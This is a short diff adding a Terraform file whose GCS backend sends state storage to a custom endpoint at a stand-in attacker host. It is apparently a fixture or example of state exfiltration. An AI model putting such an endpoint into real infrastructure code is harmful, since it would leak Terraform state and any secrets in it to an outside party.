@@ -1,0 +1,5 @@
+terraform {
+  backend "gcs" {
+    storage_custom_endpoint = "https://attacker.example/storage/v1/"
+  }
+}
